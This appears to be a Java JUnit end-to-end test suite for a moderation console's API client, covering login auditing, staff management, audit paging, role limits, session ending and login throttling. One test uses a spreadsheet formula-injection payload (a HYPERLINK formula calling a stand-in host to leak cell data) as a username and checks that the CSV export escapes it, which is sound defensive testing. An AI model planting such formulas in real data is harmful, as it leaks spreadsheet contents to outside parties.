package dev.moddesk.app.e2e;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowable;

import dev.moddesk.app.api.ApiClient;
import dev.moddesk.app.api.AuditApi;
import dev.moddesk.app.api.StaffApi;
import dev.moddesk.app.api.SessionApi;
import dev.moddesk.app.api.ApiException;
import dev.moddesk.app.api.AuditQuery;
import dev.moddesk.app.audit.AuditLogSource;
import dev.moddesk.app.audit.AuditViewModel;
import dev.moddesk.app.core.ErrorMessages;
import dev.moddesk.app.core.I18n;
import dev.moddesk.contract.AuditEntry;
import dev.moddesk.contract.CreateStaffRequest;
import dev.moddesk.contract.ProblemType;
import dev.moddesk.contract.Role;
import dev.moddesk.contract.StaffMember;
import dev.moddesk.contract.UpdateStaffRequest;
import java.nio.file.Path;
import java.util.List;
import java.util.Locale;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.MethodOrderer;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestMethodOrder;
import org.junit.jupiter.api.io.TempDir;

/**
 * The console's API client against the real server jar started by the sandbox launcher. Runs in the full build,
 * where the reactor has packaged server/ before app/ tests run (the jar path comes from app/pom.xml).
 */
@TestMethodOrder(MethodOrderer.OrderAnnotation.class)
class RealServerTest {
    @TempDir
    static Path data;
    private static RealServer server;

    @BeforeAll
    static void start() throws Exception {
        // RealServer fails, never skips, without the jar: a suite that silently stopped testing against the real
        // server would hide breakage.
        server = RealServer.start(data);
    }

    @AfterAll
    static void stop() {
        if (server != null) {
            server.close();
            assertThat(server.running()).isFalse();
        }
    }

    private static ApiClient client() {
        return server.client();
    }

    private static <T> T get(CompletableFuture<T> f) throws Exception {
        return f.get(60, TimeUnit.SECONDS);
    }

    private static ApiException failure(CompletableFuture<?> f) {
        Throwable t = catchThrowable(() -> f.get(60, TimeUnit.SECONDS));
        return ApiException.find(t).orElseThrow(() -> new AssertionError("not an ApiException", t));
    }

    private static ApiClient signedIn(Role role) {
        return server.signedIn(role);
    }

    @Test
    void compatibleAndHealthy() throws Exception {
        ApiClient api = client();
        assertThat(get(new SessionApi(api).checkCompatible()).sandbox()).isTrue();
        assertThat(get(new SessionApi(api).health()).up()).isTrue();
    }

    @Test
    void wrongPasswordIsBadCredentialsAndTheLoginIsAudited() throws Exception {
        assertThat(failure(new SessionApi(client()).login("admin", "not-the-password")).is(ProblemType.BAD_CREDENTIALS)).isTrue();
        ApiClient admin = signedIn(Role.ADMIN);
        assertThat(get(new SessionApi(admin).me()).role()).isEqualTo(Role.ADMIN);
        List<AuditEntry> logins = get(new AuditApi(admin).page(new AuditQuery("admin", "session.login", null, null, null, null, null, 50))).items();
        assertThat(logins).isNotEmpty();
    }

    @Test
    void aFormulaTriedAsAUsernameIsExportedAsTextNotAsAFormula(@TempDir Path dir) throws Exception {
        // Anyone can reach the audit log without signing in: a failed sign-in records the username tried.
        String attack = "=HYPERLINK(\"http://x.example/?\"&A1,\"open\")";
        assertThat(failure(new SessionApi(client()).login(attack, "whatever-password")).is(ProblemType.BAD_CREDENTIALS)).isTrue();

        ApiClient admin = signedIn(Role.ADMIN);
        AuditViewModel vm = new AuditViewModel(AuditLogSource.of(new AuditApi(admin)),
                new ErrorMessages(new I18n(Locale.ENGLISH)), Runnable::run, java.time.ZoneOffset.UTC);
        vm.actorProperty().set(attack);
        Path file = dir.resolve("audit.csv");
        assertThat(get(vm.export(file, Runnable::run))).isGreaterThanOrEqualTo(1);

        String csv = java.nio.file.Files.readString(file);
        assertThat(csv).contains(",\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"open\"\")\",");
        assertThat(csv).doesNotContain(",=HYPERLINK", ",\"=HYPERLINK");
    }

    @Test
    void adminManagesStaffAndEveryChangeIsAudited() throws Exception {
        ApiClient admin = signedIn(Role.ADMIN);
        ApiException invalid = failure(new StaffApi(admin).create(new CreateStaffRequest("X", "", "short", Role.OPS, List.of())));
        assertThat(invalid.is(ProblemType.VALIDATION)).isTrue();
        assertThat(invalid.problem().orElseThrow().errors()).extracting(e -> e.field()).contains("username", "password");

        StaffMember created = get(new StaffApi(admin).create(new CreateStaffRequest("zhou.min", "周敏", "long-enough-123", Role.MODERATOR, List.of("成都"))));
        assertThat(created.cityScopes()).containsExactly("成都");
        ApiException taken = failure(new StaffApi(admin).create(new CreateStaffRequest("zhou.min", "周敏", "long-enough-123", Role.MODERATOR, List.of())));
        assertThat(taken.problem().orElseThrow().status()).isEqualTo(409);

        assertThat(get(new StaffApi(admin).update(created.id(), new UpdateStaffRequest(null, Role.OPS, List.of("成都", "杭州")))).role()).isEqualTo(Role.OPS);
        assertThat(get(new StaffApi(admin).disable(created.id())).disabled()).isTrue();
        assertThat(get(new StaffApi(admin).enable(created.id())).disabled()).isFalse();
        get(new StaffApi(admin).resetPassword(created.id(), "another-long-one-1"));

        List<AuditEntry> history = get(new AuditApi(admin).page(new AuditQuery(null, null, "staff", Long.toString(created.id()), null, null, null, 50))).items();
        assertThat(history).extracting(AuditEntry::action)
                .contains("staff.create", "staff.update", "staff.disable", "staff.enable", "staff.password_reset");
        assertThat(get(new AuditApi(admin).actions())).contains("staff.create", "session.login");
    }

    @Test
    void auditPagesFollowTheCursorWithoutRepeats() throws Exception {
        ApiClient admin = signedIn(Role.ADMIN);
        var first = get(new AuditApi(admin).page(AuditQuery.firstPage(2)));
        assertThat(first.nextCursor()).isNotNull();
        var second = get(new AuditApi(admin).page(AuditQuery.firstPage(2).withCursor(first.nextCursor())));
        assertThat(second.items()).extracting(AuditEntry::id).doesNotContainAnyElementsOf(first.items().stream().map(AuditEntry::id).toList());
        assertThat(second.items().getFirst().id()).isLessThan(first.items().getLast().id());
    }

    @Test
    void moderatorMayNotManageStaffAndSeesOnlyTheirOwnAudit() throws Exception {
        ApiClient moderator = signedIn(Role.MODERATOR);
        assertThat(failure(new StaffApi(moderator).list()).is(ProblemType.FORBIDDEN)).isTrue();
        assertThat(get(new AuditApi(moderator).page(AuditQuery.firstPage(100))).items()).extracting(AuditEntry::actor).containsOnly("moderator");
    }

    @Test
    void disablingAnAccountEndsItsSessionAtOnce() throws Exception {
        ApiClient admin = signedIn(Role.ADMIN);
        StaffMember leaver = get(new StaffApi(admin).create(new CreateStaffRequest("e2e.leaver", "离职员工", "leaving-soon-123",
                Role.MODERATOR, List.of())));
        ApiClient theirs = client();
        get(new SessionApi(theirs).login("e2e.leaver", "leaving-soon-123"));
        assertThat(get(new SessionApi(theirs).me()).username()).isEqualTo("e2e.leaver");

        get(new StaffApi(admin).disable(leaver.id()));

        assertThat(failure(new SessionApi(theirs).me()).is(ProblemType.UNAUTHORIZED)).isTrue();
        assertThat(failure(new SessionApi(client()).login("e2e.leaver", "leaving-soon-123")).is(ProblemType.ACCOUNT_DISABLED)).isTrue();
    }

    @Test
    void signOutEndsTheSession() throws Exception {
        ApiClient ops = signedIn(Role.OPS);
        get(new SessionApi(ops).logout());
        ops.useToken(null);
        assertThat(failure(new SessionApi(ops).me()).is(ProblemType.UNAUTHORIZED)).isTrue();
    }

    /** Last: the server throttles by client address too, and every test here comes from 127.0.0.1. */
    @Test
    @Order(Integer.MAX_VALUE)
    void repeatedWrongPasswordsAreThrottledWithATimeToWait() {
        ErrorMessages messages = new ErrorMessages(new I18n(Locale.ENGLISH));
        ApiException last = null;
        for (int i = 0; i < 20; i++) {
            last = failure(new SessionApi(client()).login("throttle.probe", "wrong-" + i));
            if (last.is(ProblemType.TOO_MANY_REQUESTS)) {
                break;
            }
        }
        assertThat(last.is(ProblemType.TOO_MANY_REQUESTS)).isTrue();
        assertThat(last.retryAfterSeconds()).isPresent();
        assertThat(messages.describe(last)).startsWith("Too many attempts. Try again in");
    }
}
